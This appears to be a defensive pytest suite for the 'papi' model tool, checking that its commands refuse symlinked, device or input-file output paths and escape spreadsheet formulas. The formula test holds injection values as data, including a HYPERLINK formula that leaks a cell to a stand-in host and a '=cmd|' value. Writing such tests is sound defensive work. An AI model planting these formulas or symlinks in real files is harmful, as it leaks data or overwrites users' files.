"""What commands write: never where a folder from a stranger sends them, and never over what they read."""

import csv
import os
import stat
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import numpy as np
import pytest

from command import papi_exit_code
from model_files import write_model
from papi.runs.folder import RunFolder
from papi.runs.schema import Sets
from run_folders import write_run

Out = pytest.CaptureFixture[str]
PRIVATE = "alias ls='ls --color'\n"
DEFAULTS = {  # what each command writes if nobody names a file, and all the folders on the way
    "labels": ("labels.csv",),
    "report": ("report.html",),
    "export": ("exported", "exported/model.torchscript.pt"),
}
COMMANDS = {"labels": ("labels",), "report": ("report",), "export": ("export", "--format", "torchscript")}


@pytest.fixture
def run(tmp_path: Path) -> Path:
    """A finished run with a model, and beside it a file and a folder that are nobody else's business."""
    folder = write_run(tmp_path / "run").path
    write_model(folder, classes=("ant", "bee", "cat", "dog"))
    (tmp_path / "private").write_text(PRIVATE)
    (tmp_path / "home").mkdir()
    (tmp_path / "home" / "model.torchscript.pt").write_text(PRIVATE)
    return folder


def snapshot(place: Path) -> dict[str, tuple[int, bytes]]:
    """Everything below a folder: kind and content."""
    found = {}
    for path in sorted(place.rglob("*")):
        mode = path.lstat().st_mode
        content = os.readlink(path).encode() if stat.S_ISLNK(mode) else path.read_bytes() if path.is_file() else b""
        found[str(path.relative_to(place))] = (stat.S_IFMT(mode), content)
    return found


def assert_refused(place: Path, capsys: Out, *arguments: object, says: str = "") -> None:
    """Exit code 2, one sentence, and nothing changed anywhere."""
    before = snapshot(place)
    capsys.readouterr()
    assert papi_exit_code(*arguments) == 2
    said = capsys.readouterr()
    assert said.out == ""
    assert said.err.startswith("papi: ")
    assert said.err.count("\n") == 1
    assert says in said.err
    assert snapshot(place) == before


@pytest.mark.parametrize(("command", "name"), [(command, name) for command, all in DEFAULTS.items() for name in all])
@pytest.mark.parametrize("leads", ["out", "to nothing", "within"])
def test_a_link_in_a_received_folder(command: str, name: str, leads: str, run: Path, capsys: Out) -> None:
    """`labels.csv -> ~/.bashrc`: the folder decides what would be written there."""
    target = {"out": run.parent / ("home" if name == "exported" else "private"), "to nothing": run.parent / "new"}
    (run / name).parent.mkdir(exist_ok=True)
    (run / name).symlink_to(target.get(leads, run / "config.json"))
    assert_refused(run.parent, capsys, *COMMANDS[command], run, says=f"{name} is a link")


@pytest.mark.parametrize("command", COMMANDS)
@pytest.mark.parametrize("kind", ["pipe", "device", "folder"])
def test_no_file_in_the_place_of_a_file(command: str, kind: str, run: Path, capsys: Out) -> None:
    file = run / DEFAULTS[command][-1]
    file.parent.mkdir(exist_ok=True)
    if kind == "device":
        if os.geteuid() != 0:
            pytest.skip("only root makes devices")
        os.mknod(file, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    elif kind == "pipe":
        os.mkfifo(file)
    else:
        file.mkdir()
    says = "is a folder" if kind == "folder" else "is a device or a pipe"
    assert_refused(run.parent, capsys, *COMMANDS[command], run, says=says)


@pytest.mark.parametrize("name", ["run.lock", "config.json", "metrics.jsonl", "candidates.npz", "checkpoint.pt"])
def test_training_in_a_folder_with_links(name: str, tmp_path: Path, capsys: Out) -> None:
    (tmp_path / "private").write_text(PRIVATE)
    data = write_run(tmp_path / "other").path.parent / "data-known.npz"
    (tmp_path / "run").mkdir()
    (tmp_path / "run" / name).symlink_to(tmp_path / "private")
    options = ("--epochs", 1, "--threads", 1, "--device", "cpu", "--network", "small")
    code = papi_exit_code("train", "--data", data, "--out", tmp_path / "run", *options)
    assert code == (0 if name == "checkpoint.pt" else 2), "a checkpoint that is none is set aside"
    assert "Traceback" not in capsys.readouterr().err
    assert (tmp_path / "private").read_text() == PRIVATE
    assert list((tmp_path / "run").glob(".*.writing*")) == []


@pytest.mark.parametrize("command", COMMANDS)
def test_a_link_that_a_person_names(command: str, run: Path, capsys: Out) -> None:
    link = run.parent / f"link{Path(DEFAULTS[command][-1]).suffix}"
    link.symlink_to("private")
    assert_refused(run.parent, capsys, *COMMANDS[command], run, "--out", link, says="specify its target")


@pytest.mark.parametrize("kind", ["onnx", "torchscript", "safetensors"])
def test_a_model_is_never_exported_over_a_device(kind: str, run: Path, capsys: Out) -> None:
    """As root, too, which may replace any name."""
    os.mkfifo(run.parent / "pipe")
    for device in (Path("/dev/null"), Path("/dev/stdout"), run.parent / "pipe"):
        assert_refused(run.parent, capsys, "export", run, "--format", kind, "--out", device, says="is a ")
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)


@pytest.mark.parametrize("command", ["labels", "report"])
def test_text_may_go_to_a_device(command: str, run: Path) -> None:
    assert papi_exit_code(command, run, "--out", "/dev/null") == 0
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    done = subprocess.run(
        [sys.executable, "-m", "papi", command, str(run), "--out", "/dev/stdout"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert done.stdout.startswith("index,file" if command == "labels" else "<!doctype html>")


@pytest.mark.parametrize("command", ["labels", "report"])
@pytest.mark.parametrize("name", ["config.json", "metrics.jsonl", "candidates.npz", "arrays.npz", "model.safetensors"])
def test_files_of_the_run_are_not_outputs(command: str, name: str, run: Path, capsys: Out) -> None:
    assert_refused(run.parent, capsys, command, run, "--out", run / name, says="is an input of this command")
    (run.parent / "shortcut").symlink_to(run)
    assert_refused(
        run.parent, capsys, command, run, "--out", run.parent / "shortcut" / name, says="is an input of this"
    )


def test_the_data_of_a_run_are_not_its_report(run: Path, capsys: Out) -> None:
    says = "is an input of this command"
    assert_refused(run.parent, capsys, "report", run, "--out", run.parent / "data-known.npz", says=says)
    other = write_run(run.parent / "other", truth=False).path
    assert_refused(run.parent, capsys, "report", run, other, "--out", run.parent / "data-unknown.npz", says=says)
    assert_refused(run.parent, capsys, "report", run, other, "--out", other / "summary.json", says=says)


def test_an_export_does_not_replace_its_model(run: Path, capsys: Out) -> None:
    model = run / "model.safetensors"
    for given in (run, model):
        for file in (model, run / "." / ".." / "run" / "model.safetensors"):
            assert_refused(
                run.parent, capsys, "export", given, "--format", "safetensors", "--out", file, says="is an input"
            )
    model.rename(run / "mine.safetensors")
    model = run / "mine.safetensors"
    assert_refused(run.parent, capsys, "export", model, "--format", "safetensors", "--out", model, says="is an input")


def test_outputs_are_replaced_by_the_same_command(run: Path) -> None:
    """What a command wrote, it may write again, wherever a person has put it."""
    (run.parent / "shortcut").symlink_to(run)
    for command in ("labels", "report", "export"):
        for place in (run, run.parent / "shortcut"):
            assert papi_exit_code(*COMMANDS[command], place) == 0
    assert sorted(each.name for each in run.iterdir() if each.name.startswith(".")) == []


@pytest.mark.parametrize("command", COMMANDS)
def test_a_failure_leaves_no_folder(command: str, run: Path, capsys: Out) -> None:
    """Neither an empty `exported` nor those that --out names."""
    for name in ("model.safetensors", "config.json", "arrays.npz", "metrics.jsonl", "summary.json"):
        (run / name).unlink()
    assert_refused(run.parent, capsys, *COMMANDS[command], run)
    out = run.parent / "new" / "deep" / f"file{Path(DEFAULTS[command][-1]).suffix}"
    assert_refused(run.parent, capsys, *COMMANDS[command], run, "--out", out)


def test_a_network_that_cannot_be_exported_leaves_no_folder(
    run: Path, capsys: Out, monkeypatch: pytest.MonkeyPatch
) -> None:
    from papi.export import formats

    monkeypatch.setattr(formats, "TOLERANCE", -1.0)
    assert_refused(run.parent, capsys, *COMMANDS["export"], run, says="use another --format")


def read(file: Path) -> list[dict[str, str]]:
    with file.open(newline="", encoding="utf-8") as stream:
        return list(csv.DictReader(stream))


def formulas(folder: RunFolder) -> tuple[str, ...]:
    """Give a run classes and files whose names a spreadsheet would compute, and one class that is a number."""
    names = ('=HYPERLINK("http://x/"&A1)', "+1+1", "@SUM(A1)", "-1")
    folder.write_record(replace(folder.begun(), classes=names))
    sets = folder.read_sets()
    files = tuple(f"=cmd|{i}.png" for i in range(len(sets.candidates)))
    folder.write_sets(Sets(candidates=sets.candidates, file_names=files))
    return files


def test_cells_that_a_spreadsheet_would_compute(tmp_path: Path) -> None:
    folder = write_run(tmp_path / "run")
    files = formulas(folder)
    assert papi_exit_code("labels", folder.path) == 0
    rows = read(folder.path / "labels.csv")
    assert [row["file"] for row in rows] == [f"'{name}" for name in files]
    for row in rows:
        for name, value in row.items():
            assert not value.startswith(("=", "+", "@")), name
            assert not value.startswith("-") or float(value) < 0
        assert float(row["confidence"]) >= 0
    assert {row["label"] for row in rows} == {'\'=HYPERLINK("http://x/"&A1)', "'+1+1", "'@SUM(A1)", "-1"}
    assert papi_exit_code("labels", folder.path, "--raw") == 0
    raw = read(folder.path / "labels.csv")
    assert [row["file"] for row in raw] == list(files)
    assert {row["label"] for row in raw} == set(folder.begun().classes)
    assert [row["confidence"] for row in raw] == [row["confidence"] for row in rows]


@pytest.mark.parametrize("raw", [(), ("--raw",)])
def test_the_table_can_be_given_back_as_decisions(raw: tuple[str, ...], tmp_path: Path) -> None:
    from papi.runs.decisions import read_decisions

    folder = write_run(tmp_path / "run")
    files = formulas(folder)
    assert papi_exit_code("labels", folder.path, *raw) == 0
    found = read_decisions(folder.path / "labels.csv", len(files), folder.begun().classes, files)
    assert list(found) == list(range(len(files)))
    labels = folder.read_arrays().confidence.argmax(1)
    assert all(answer.labels == (labels[image],) for image, answer in found.items())


def test_two_predictions_into_one_file(tmp_path: Path) -> None:
    """Two real processes begin together. Each row is of one of them, and all rows are of the same."""
    model = write_model(tmp_path / "model")
    draws = np.random.default_rng(0)
    for name in ("a", "b"):
        np.save(tmp_path / f"{name}.npy", draws.integers(0, 256, (3000, 1, 8, 8), np.uint8))
    out = tmp_path / "p.csv"
    command = [sys.executable, "-m", "papi", "predict", str(model)]
    processes = [subprocess.Popen([*command, str(tmp_path / f"{name}.npy"), "--out", str(out)]) for name in "ab"]
    assert [process.wait() for process in processes] == [0, 0]
    rows = read(out)
    assert len(rows) == 3000
    assert len({row["file"] for row in rows}) == 1
    assert [int(row["row"]) for row in rows] == list(range(3000))
    assert list(tmp_path.glob(".*")) == []


def test_a_hub_folder_is_no_link(run: Path, capsys: Out) -> None:
    (run.parent / "empty").mkdir()
    (run.parent / "link").symlink_to("empty")
    hub = ("export", run, "--format", "torchscript", "--hub-folder")
    assert_refused(run.parent, capsys, *hub, run.parent / "link", says="is a link")
    (run.parent / ".mine.writing").symlink_to("home")  # the name under which it once began
    assert papi_exit_code(*hub, run.parent / "mine") == 0
    assert os.listdir(run.parent / "home") == ["model.torchscript.pt"]


@pytest.mark.parametrize("make", [lambda path: path.symlink_to("private"), os.mkfifo, os.mkdir])
def test_figures_follow_no_links(make: Callable[[Path], None], tmp_path: Path) -> None:
    from matplotlib.figure import Figure

    from papi.errors import UserError
    from papi.experiments.figures import save

    (tmp_path / "private").write_text(PRIVATE)
    make(tmp_path / "a.png")
    with pytest.raises(UserError, match=r"a\.png is a "):
        save(Figure(), tmp_path / "a.svg")
    assert (tmp_path / "private").read_text() == PRIVATE
    assert list(tmp_path.glob(".*")) == []


def test_leftovers_and_locks_in_the_eyes_of_the_doctor(run: Path, capsys: Out) -> None:
    """What killed processes leave has a name that is recognised, whoever wrote it."""
    for name in (".checkpoint.pt.0123456789ab.writing", ".labels.csv.0123456789ab.writing.csv"):
        (run / name).write_text("half")
    papi_exit_code("doctor", run)
    said = capsys.readouterr().out
    assert ".checkpoint.pt.0123456789ab.writing" in said
    assert ".labels.csv.0123456789ab.writing.csv" in said
    assert papi_exit_code("labels", run) == 0
    assert not (run / ".labels.csv.0123456789ab.writing.csv").exists()
    (run / "run.lock").symlink_to(run.parent / "private")
    assert papi_exit_code("doctor", run) != 0
    assert "run.lock is not a regular file" in capsys.readouterr().out
    assert (run.parent / "private").read_text() == PRIVATE
